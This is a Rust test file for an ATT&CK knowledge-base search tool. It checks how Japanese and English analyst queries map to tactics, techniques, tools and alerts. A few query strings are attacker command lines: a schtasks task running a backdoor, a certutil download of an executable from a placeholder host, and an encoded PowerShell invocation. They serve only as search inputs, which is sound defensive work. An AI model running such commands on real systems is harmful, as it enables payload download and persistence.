//! Search as an analyst uses it: one query box, real bundles, real index.

mod common;

use attack_kb::model::Kind;
use attack_kb::query::{self, SearchRequest};
use common::{ids, open, search};

/// Every query's first result is the given ID.
fn each_first(cases: &[(&str, &str)]) {
    for (q, id) in cases {
        assert_eq!(first(q), *id, "query {q}");
    }
}

fn first(q: &str) -> String {
    let kb = open();
    let hits = search(&kb, q);
    assert!(!hits.is_empty(), "{q:?} found nothing");
    hits[0].stored.id.clone()
}

#[test]
fn mde_word_for_persistence_finds_the_tactic_first() {
    assert_eq!(first("常設"), "TA0003");
}

#[test]
fn every_japanese_variant_of_a_tactic_finds_it_first() {
    each_first(&[
        ("永続化", "TA0003"),
        ("永続性", "TA0003"),
        ("防御回避", "TA0005"),
        ("横移動", "TA0008"),
        ("ラテラルムーブメント", "TA0008"),
        ("水平展開", "TA0008"),
        ("権限昇格", "TA0004"),
        ("特権の昇格", "TA0004"),
        ("資格情報アクセス", "TA0006"),
        ("認証情報 アクセス", "TA0006"),
        ("探索", "TA0007"),
        ("コマンドとコントロール", "TA0011"),
        ("持ち出し", "TA0010"),
        ("インパクト", "TA0040"),
        ("初期アクセス", "TA0001"),
        ("偵察", "TA0043"),
        ("リソース開発", "TA0042"),
        ("収集", "TA0009"),
        ("実行", "TA0002"),
    ]);
}

#[test]
fn schtasks_shows_the_binary_first_with_its_techniques() {
    let kb = open();
    let hits = search(&kb, "schtasks");
    assert_eq!(hits[0].stored.id, "schtasks.exe");
    assert_eq!(hits[0].stored.kind, Kind::Binary);
    let techniques: Vec<&str> = hits[0]
        .stored
        .techniques
        .iter()
        .map(|r| r.id.as_str())
        .collect();
    assert_eq!(techniques.first(), Some(&"T1053.005"));
    assert!(techniques.contains(&"S0111"), "{techniques:?}");
    assert!(ids(&hits).iter().take(5).any(|id| id == "S0111"));
}

#[test]
fn japanese_function_name_finds_the_binary() {
    let kb = open();
    for q in ["タスクスケジューラ", "タスク スケジューラー"] {
        let hits = ids(&search(&kb, q));
        assert!(
            hits.iter().take(5).any(|id| id == "schtasks.exe"),
            "{q}: {hits:?}"
        );
    }
}

#[test]
fn ids_in_any_case_and_width() {
    each_first(&[
        ("T1053.005", "T1053.005"),
        ("t1053", "T1053"),
        ("TA0006", "TA0006"),
        ("ｔａ０００６", "TA0006"),
        ("S0002", "S0002"),
        ("G0016", "G0016"),
        ("M1036", "M1036"),
    ]);
}

#[test]
fn aliases_and_typos() {
    assert_eq!(first("Cozy Bear"), "G0016");
    assert_eq!(first("APT29"), "G0016");
    let kb = open();
    let typo = ids(&search(&kb, "schtask"));
    assert!(typo[..2].contains(&"schtasks.exe".to_string()), "{typo:?}");
    let typo = ids(&search(&kb, "certutl"));
    assert_eq!(typo[0], "certutil.exe");
    let typo = ids(&search(&kb, "mimikats"));
    assert_eq!(typo[0], "S0002");
}

#[test]
fn english_concepts_find_their_technique() {
    each_first(&[
        ("scheduled task", "T1053.005"),
        ("credential dumping", "T1003"),
        ("lsass memory dump", "T1003.001"),
        ("Kerberoasting", "T1558.003"),
        ("pass the hash", "T1550.002"),
        ("UAC bypass", "T1548.002"),
    ]);
}

#[test]
fn japanese_concepts_find_their_technique() {
    each_first(&[
        ("資格情報ダンプ", "T1003"),
        ("リモートデスクトップ", "T1021.001"),
        ("ランサムウェア 暗号化", "T1486"),
        ("イベントログの消去", "T1070.001"),
    ]);
}

#[test]
fn pasted_alert_title_answers_with_the_technique_then_the_alert() {
    let kb = open();
    let hits = search(&kb, "An anomalous scheduled task was created");
    assert_eq!(hits[0].stored.id, "T1053.005");
    assert!(
        hits[0]
            .via
            .as_deref()
            .is_some_and(|v| v.starts_with("alert:"))
    );
    assert_eq!(hits[1].stored.kind, Kind::Alert);
}

#[test]
fn whole_command_line_finds_the_program() {
    let q = r#""schtasks.exe" /create /SC ONCE /TN Troj /TR C:\Users\vmadmin\Desktop\WinATP-Intro-Backdoor.exe /ST 13:36 /F"#;
    assert_eq!(first(q), "schtasks.exe");
    assert_eq!(
        first(r"C:\Windows\System32\certutil.exe -urlcache -split -f http://x/a.exe a.exe"),
        "certutil.exe"
    );
}

#[test]
fn hostile_input_never_errors() {
    let kb = open();
    for q in [
        "\"",
        "'",
        ":",
        "\\",
        "\"\"\"",
        "a:b:c",
        "title:foo AND",
        "(((",
        "[x TO",
        "*",
        "?",
        "~2",
        "^",
        "-",
        "+",
        "\\\\server\\share",
        "T1053.005\"",
        "   ",
        "",
        "\u{0}",
        "🙂",
        "常設:\"",
        "powershell -enc SQBFAFgA==",
        "cmd /c \"echo a|b>c\"",
        &"a ".repeat(2000),
        &"x".repeat(5000),
    ] {
        let r = query::search(
            &kb,
            &SearchRequest {
                query: q.to_string(),
                limit: 5,
                ..Default::default()
            },
        );
        assert!(r.is_ok(), "query {q:?}: {r:?}");
    }
    // Punctuation alone means nothing.
    for q in ["/", ":", "\\", "-", "=", "%", "\"\"", "「」"] {
        let r = query::search(
            &kb,
            &SearchRequest {
                query: q.to_string(),
                limit: 5,
                ..Default::default()
            },
        );
        assert!(
            r.expect("no error").results.is_empty(),
            "query {q:?} found something"
        );
    }
}

#[test]
fn filters_by_kind_tactic_and_domain() {
    let kb = open();
    let req =
        |q: &str, kinds: Vec<Kind>, tactic: Option<&str>, domain: Option<&str>| SearchRequest {
            query: q.into(),
            limit: 20,
            kinds,
            tactic: tactic.map(str::to_owned),
            domain: domain.map(str::to_owned),
        };
    let r =
        query::search(&kb, &req("schtasks", vec![Kind::Technique], None, None)).expect("search");
    assert!(!r.results.is_empty());
    assert!(r.results.iter().all(|h| h.stored.kind == Kind::Technique));
    assert_eq!(r.results[0].stored.id, "T1053.005");

    let r = query::search(&kb, &req("registry", vec![], Some("常設"), None)).expect("search");
    assert!(!r.results.is_empty());
    assert!(
        r.results
            .iter()
            .all(|h| h.stored.tactics.iter().any(|t| t.id == "TA0003"))
    );

    let r = query::search(&kb, &req("persistence", vec![], None, Some("ics"))).expect("search");
    assert!(!r.results.is_empty());
    assert!(
        r.results
            .iter()
            .all(|h| h.stored.domains.iter().any(|d| d == "ics-attack"))
    );
    assert_eq!(r.results[0].stored.id, "TA0110");

    let bad = query::search(&kb, &req("x", vec![], Some("no such tactic"), None));
    assert!(bad.is_err());
}

#[test]
fn ids_inside_pasted_text_are_recognised() {
    let kb = open();
    assert_eq!(first("technique T1003.001."), "T1003.001");
    let both = ids(&search(&kb, "T1059, T1003"));
    assert_eq!(both[..2], ["T1059", "T1003"]);
    assert_eq!(first("(T1574.002)"), "T1574.001");
}

#[test]
fn an_alerts_technique_is_not_promoted_past_the_filters() {
    let kb = open();
    let req = SearchRequest {
        query: "Ransomware behavior detected in the file system".into(),
        limit: 5,
        tactic: Some("TA0007".into()),
        ..Default::default()
    };
    let r = query::search(&kb, &req).expect("search");
    assert!(
        r.results
            .iter()
            .all(|h| h.stored.tactics.iter().any(|t| t.id == "TA0007"))
    );
    assert!(r.results.iter().all(|h| h.stored.id != "T1486"));
}

#[test]
fn revoked_id_is_not_a_result_but_leads_to_its_replacement() {
    let kb = open();
    let hits = search(&kb, "T1574.002");
    assert_eq!(hits[0].stored.id, "T1574.001");
    assert!(
        hits[0]
            .via
            .as_deref()
            .is_some_and(|v| v.contains("T1574.002"))
    );
    assert!(!ids(&hits).contains(&"T1574.002".to_string()));
}

#[test]
fn deprecated_mitigation_never_shadows_the_live_technique() {
    let kb = open();
    let hits = search(&kb, "T1087");
    assert_eq!(hits[0].stored.id, "T1087");
    assert_eq!(hits[0].stored.kind, Kind::Technique);
    assert!(
        hits.iter()
            .all(|h| h.stored.kind != Kind::Mitigation || h.stored.id != "T1087")
    );
}

#[test]
fn results_carry_japanese_names_and_tactics() {
    let kb = open();
    let hits = search(&kb, "T1053.005");
    let h = &hits[0].stored;
    assert!(
        h.name_ja
            .as_deref()
            .is_some_and(attack_kb::text::has_japanese)
    );
    let tactics: Vec<&str> = h.tactics.iter().map(|t| t.id.as_str()).collect();
    assert!(tactics.contains(&"TA0003"), "{tactics:?}");
    let persistence = h.tactics.iter().find(|t| t.id == "TA0003").expect("TA0003");
    assert_eq!(persistence.name_ja.as_deref(), Some("永続化"));
    assert!(
        h.snippet_ja
            .as_deref()
            .is_some_and(attack_kb::text::has_japanese)
    );
}

#[test]
fn every_catalogue_entry_is_found_first_by_its_file_name() {
    let kb = open();
    let curated = attack_kb::source::curated::Curated::embedded().expect("kb/");
    let misses: Vec<String> = curated
        .binaries
        .iter()
        .filter_map(|(_, b)| {
            let got = ids(&search(&kb, &b.id));
            (got.first() != Some(&b.id))
                .then(|| format!("{} -> {:?}", b.id, &got[..got.len().min(3)]))
        })
        .collect();
    assert!(misses.is_empty(), "{}", misses.join("\n"));
}

#[test]
fn every_alert_title_in_either_language_leads_to_its_technique() {
    let kb = open();
    let curated = attack_kb::source::curated::Curated::embedded().expect("kb/");
    let mut misses = Vec::new();
    for (_, a) in &curated.alerts {
        for title in [&a.title_en, &a.title_ja] {
            let got = ids(&search(&kb, title));
            if got.first() != Some(&a.techniques[0]) {
                misses.push(format!(
                    "{title} -> {:?}, want {}",
                    &got[..got.len().min(3)],
                    a.techniques[0]
                ));
            }
        }
    }
    assert!(misses.is_empty(), "{}", misses.join("\n"));
}
